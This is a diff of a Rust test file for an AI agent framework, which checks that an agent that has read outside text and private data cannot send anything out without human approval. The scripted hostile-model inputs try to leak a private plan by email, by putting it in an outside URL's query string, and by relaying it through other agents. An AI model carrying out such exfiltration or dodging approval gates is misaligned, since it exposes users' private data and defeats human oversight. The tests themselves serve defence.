@@ -1,6 +1,8 @@
 //! I3 and I4: a person decides, about exactly what they were shown, once, and not out of weariness; and whoever has read
 //! strangers' text and private data sends nothing out without a person.
 
+use std::slice;
+
 use agentflow::{
     agents::{self, AgentConfig, service::NewVersion},
     approvals::{Approval, ApprovalFilter, ApprovalState, service},
@@ -284,13 +286,16 @@ async fn who_has_read_strangers_and_private_things_sends_nothing_by_any_hand() {
     let tools = json!({ "http_request": "allowed", "context_get": "allowed", "email_send": "allowed" });
     let out = |calls: Vec<_>| calls;
     // By itself; what is asked for in one answer is chosen before any of it is read.
-    let run =
-        lair.starts(tools.clone(), vec![calls(&out(vec![page.clone(), plan.clone()])), calls(&[send.clone()])]).await;
+    let run = lair
+        .starts(tools.clone(), vec![calls(&out(vec![page.clone(), plan.clone()])), calls(slice::from_ref(&send))])
+        .await;
     let gate = asked(&lair, run, 1).await.remove(0);
     assert!(gate.message.contains("text from outside and private data"), "{}", gate.message);
     // By its address, too.
     let leak = ("http_request", json!({ "url": outside.url("/?the-plan") }));
-    let run = lair.starts(tools.clone(), vec![calls(&[plan.clone()]), calls(&[page.clone()]), calls(&[leak])]).await;
+    let run = lair
+        .starts(tools.clone(), vec![calls(slice::from_ref(&plan)), calls(slice::from_ref(&page)), calls(&[leak])])
+        .await;
     asked(&lair, run, 1).await;
     assert!(outside.seen().iter().all(|(_, uri, ..)| !uri.contains("the-plan")));
 
@@ -314,22 +319,22 @@ async fn who_has_read_strangers_and_private_things_sends_nothing_by_any_hand() {
         (
             "reader",
             vec![calls(&[page.clone(), plan.clone()]), call("agent_sender", &json!({ "prompt": "Send: the plan" }))],
-            vec![calls(&[send.clone()])],
+            vec![calls(slice::from_ref(&send))],
         ),
         (
             "sender",
             vec![calls(&[page.clone(), plan.clone()]), text("Send: the plan")],
-            vec![call("agent_reader", &json!({ "prompt": "Read." })), calls(&[send.clone()])],
+            vec![call("agent_reader", &json!({ "prompt": "Read." })), calls(slice::from_ref(&send))],
         ),
         (
             "sender",
             vec![
-                calls(&[plan.clone()]),
+                calls(slice::from_ref(&plan)),
                 call("agent_sender", &json!({ "prompt": "Send" })),
-                calls(&[page.clone()]),
+                calls(slice::from_ref(&page)),
                 text("Now."),
             ],
-            vec![call("agent_reader", &json!({ "prompt": "Read." })), calls(&[send.clone()])],
+            vec![call("agent_reader", &json!({ "prompt": "Read." })), calls(slice::from_ref(&send))],
         ),
     ] {
         lair.model.says(EVIL, script);
